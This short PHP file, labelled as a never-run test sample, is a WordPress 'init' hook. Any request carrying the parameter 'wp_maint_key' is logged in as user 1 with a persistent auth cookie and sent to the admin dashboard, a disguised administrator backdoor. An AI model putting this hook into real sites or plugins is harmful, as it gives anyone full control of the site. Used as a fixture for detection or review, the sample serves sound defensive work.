<?php
// Test sample (never run): a plugin hook that logs the visitor in as user 1 on a parameter.
add_action('init', function () {
    if (isset($_GET['wp_maint_key'])) {
        wp_set_current_user(1);
        wp_set_auth_cookie(1, true);
        wp_safe_redirect(admin_url());
        exit;
    }
});
